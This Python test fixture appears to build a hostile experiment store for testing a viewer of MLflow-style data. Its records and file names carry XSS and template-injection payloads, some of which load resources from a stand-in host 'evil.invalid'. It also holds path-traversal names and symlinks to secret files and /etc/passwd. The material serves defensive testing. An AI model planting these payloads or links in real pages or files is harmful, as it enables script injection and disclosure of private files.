"""A store whose every string tries to break out of the page it is shown on.

Each payload sets `window.__hit` and asks a foreign host for something, in whatever way its place
may allow: as markup, inside an attribute, as an address, in Markdown, as a file that is opened.
"""

import os
from pathlib import Path

import yaml

from tests.sites import run_id
from tests.trees import experiment_record, run_record, write

FOREIGN = "evil.invalid"  # a host that no name server knows
CONFIDED = "CONFIDED-9c1f04"  # stands in files outside the store; links lead to them
HIT = "window.__hit=1"

MARKUP = (
    f"</title></style></textarea></script>--><script>{HIT}</script>"
    f"<img src=x onerror={HIT}><img src=//{FOREIGN}/i.png><svg/onload={HIT}>"
    f"<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>"
    f"<link rel=stylesheet href=//{FOREIGN}/s.css><base href=//{FOREIGN}/>"
    f"<form action=//{FOREIGN}><input autofocus onfocus={HIT}></form>"
    f"<details open ontoggle={HIT}><style>@import '//{FOREIGN}/i.css';*{{display:none}}</style>"
)
ATTRIBUTE = f'" onmouseover=\'{HIT}\' autofocus onfocus="{HIT}" style="position:fixed" x=" \'>'
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>"
CONTROL = "\x1b[31mred\x1b]0;title\x07\u202egnp.exe\u2066\n# line\r\tnul"
VALUE = f"{MARKUP}{ATTRIBUTE}{TEMPLATE}"
KEY = f"\"><img src=x onerror={HIT}>'{{{{7*7}}}}"  # fits a file name: no slash, no NUL
NESTED_KEY = f"<script>{HIT}</script>"  # a folder and a file

NOTE = f"""# Note <script>{HIT}</script>

<img src=x onerror="{HIT}"> <svg onload="{HIT}"><script>{HIT}</script></svg>
<iframe src="javascript:parent.{HIT}"></iframe> <div style="position:fixed;inset:0">cover</div>
<style>* {{ display: none }}</style> <form action="//{FOREIGN}"><button>go</button></form>
<a href="javascript:{HIT}">raw</a> <a href="//{FOREIGN}/" onclick="{HIT}">raw</a>
<object data="//{FOREIGN}/o"></object> <video src="//{FOREIGN}/v" autoplay onerror="{HIT}"></video>
<math><mtext></table><mglyph><style><img src=x onerror="{HIT}"></style></mglyph></mtext></math>

[script](javascript:{HIT}) [mixed](JaVaScRiPt:{HIT}) [entity](java&#115;cript:{HIT})
[tab](java	script:{HIT}) [data](data:text/html,<script>opener.{HIT}</script>) [vb](vbscript:x)
[file](file:///etc/passwd) [good](https://example.org/?a=1&b=2 "a title") <javascript:{HIT}>
![data](data:image/svg+xml,<svg/onload={HIT}>) ![foreign](https://{FOREIGN}/p.png)
[![both](https://{FOREIGN}/p.png)](javascript:{HIT})

[reference]: javascript:{HIT}
[reference] ![reference][]

| table | <b onmouseover="{HIT}">bold</b> |
|-------|------|
| `<script>` | {HIT} |

```html
<script>{HIT}</script>
```
{TEMPLATE}
"""

HTML_PAGE = f"<!doctype html><body><script>{HIT};document.title='HIT'</script>active</body>"
SVG_PAGE = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script></svg>'
XML_PAGE = (
    f'<?xml version="1.0"?><r><s:script xmlns:s="http://www.w3.org/1999/xhtml">{HIT}</s:script></r>'
)
ACTIVE = {
    **{f"page.{suffix}": HTML_PAGE for suffix in ("html", "HTM", "shtml", "php", "xyz")},
    **{
        f"page.{suffix}": XML_PAGE
        for suffix in ("xhtml", "xht", "xml", "rss", "atom", "rdf", "xsl")
    },
    "page.svg": SVG_PAGE,
    "page.mhtml": f"MIME-Version: 1.0\nContent-Type: text/html\n\n{HTML_PAGE}",
    "page": HTML_PAGE,
    "page.html.": HTML_PAGE,
    "page.html ": HTML_PAGE,
    "index.html": HTML_PAGE,
    "page.txt": HTML_PAGE,
}
ODD_NAMES = (
    "a b.txt",
    'it\'s "quoted".txt',
    "100%.txt",
    "%2e%2e%2f%2e%2e%2findex.html",
    "..%2fescape.txt",
    "..\\escape.txt",
    "a#b.txt",
    "a?b=c&d.txt",
    "a:b.txt",
    "javascript:alert(1)",
    "näïve-実験-😀.txt",
    "line\nbreak.txt",
    "tab\there.txt",
    "-rf.txt",
    "--help",
    "<b>.txt",
    "+a=b;c,d@e!$~.txt",
    "aux.txt",
    "CON",
    "~",
    "...",
    ".htaccess",
    ".git/config",
    "deep/er/" + "x" * 250,
    "deep/Er/a.txt",
    "deep/er/A.txt",
    "*.txt",
    "|pipe",
    "`tick`",
    "\u202egpj.txt",
)


def hostile_store(root: Path) -> Path:
    """The store, and beside it the files that nothing may read; its root."""
    write(root.parent, {"secret.txt": CONFIDED, "secrets/meta.yaml": f"name: {CONFIDED}\n"})
    write(root.parent, {"secrets/metrics/m": f"1 0.5 0\n{CONFIDED}", "secrets/params/p": CONFIDED})
    _hostile_experiment(root, "1")
    _hostile_run(root / "1" / run_id(1), VALUE)
    _hostile_run(root / "1" / run_id(2), CONTROL)
    artifacts = root / "1" / run_id(1) / "artifacts"
    write(artifacts, {f"active/{name}": body for name, body in ACTIVE.items()})
    write(artifacts, {f"odd/{name}": f"odd {name}" for name in ODD_NAMES})
    _linked_run(root / "1" / run_id(3), root.parent)
    _odd_places(root)
    return root


def _hostile_experiment(root: Path, experiment: str) -> None:
    changes = {"name": f"{VALUE}\n{CONTROL}", "artifact_location": f"javascript:{HIT}"}
    write(
        root / experiment,
        {
            "meta.yaml": experiment_record(experiment, changes),
            "tags/mlflow.note.content": NOTE,
            f"tags/{KEY}": VALUE,
            f"tags/{NESTED_KEY}": CONTROL,
            "datasets/d/meta.yaml": _record("name", "digest", "source", "source_type", "schema"),
            "models/m/meta.yaml": _record("name", "model_type", "status", "experiment_id")
            + f"source_run_id: '{run_id(1)}'\n",
            f"models/m/artifacts/{KEY}": "x",
            f"models/m/params/{KEY}": VALUE,
        },
    )


def _hostile_run(folder: Path, text: str) -> None:
    fields = ("run_name", "user_id", "source_name", "source_version", "status", "lifecycle_stage")
    record = run_record(folder.name, {**dict.fromkeys(fields, text), "start_time": text})
    write(
        folder,
        {
            "meta.yaml": record,
            f"params/{KEY}": text,
            f"params/{NESTED_KEY}": text,
            f"metrics/{KEY}": "1600000000000 0.5 0\n",
            f"metrics/{NESTED_KEY}": f"1600000000000 nan 0\n{VALUE}\n",
            f"tags/{KEY}": text,
            f"tags/{NESTED_KEY}": text,
            "tags/mlflow.note.content": NOTE,
            "tags/mlflow.parentRunId": text,
            "tags/mlflow.source.git.repoURL": f"javascript:{HIT}",
            "inputs/i/meta.yaml": yaml.safe_dump(
                {"source_type": "DATASET", "source_id": "d", "tags": {"mlflow.data.context": text}}
            ),
            "inputs/j/meta.yaml": yaml.safe_dump({"source_type": "DATASET", "source_id": text}),
            "outputs/k/meta.yaml": yaml.safe_dump({"destination_id": text, "step": text}),
        },
    )


def _record(*fields: str) -> str:
    return yaml.safe_dump(dict.fromkeys(fields, VALUE), allow_unicode=True)


def _linked_run(folder: Path, outside: Path) -> None:
    """A run without artifacts of its own, whose links lead to secrets outside the store."""
    changes = {"artifact_uri": f"javascript://{FOREIGN}/%0a{HIT}", "run_name": "links"}
    write(folder, {"meta.yaml": run_record(folder.name, changes), "metrics/m": "1 0.5 0\n"})
    for name in ("params/secret", "tags/secret", "metrics/secret", "artifacts/secret.txt"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(outside / "secret.txt")
    (folder / "artifacts/folder").symlink_to(outside / "secrets")
    (folder / "artifacts/up").symlink_to("../../../../")
    (folder / "artifacts/passwd").symlink_to("/etc/passwd")
    os.symlink("../../../secrets", folder / "inputs")
    os.symlink(outside / "secrets", folder.parent / run_id(4))
    os.symlink(outside / "secrets", folder.parent.parent / "9")


def _odd_places(root: Path) -> None:
    """Folders of experiments and runs named in ways that MLflow does not."""
    odd = f'"><img src=x onerror={HIT}> #?%2e'
    write(root / odd, {"meta.yaml": experiment_record("5", {"name": "..", "creation_time": 1})})
    for name in ("..%2f..%2findex", "a b&c", "con", "Ünï", "<i>", "-x", "index.html", run_id(3)):
        write(root / odd / name, {"meta.yaml": run_record(name), "artifacts/a.txt": name})
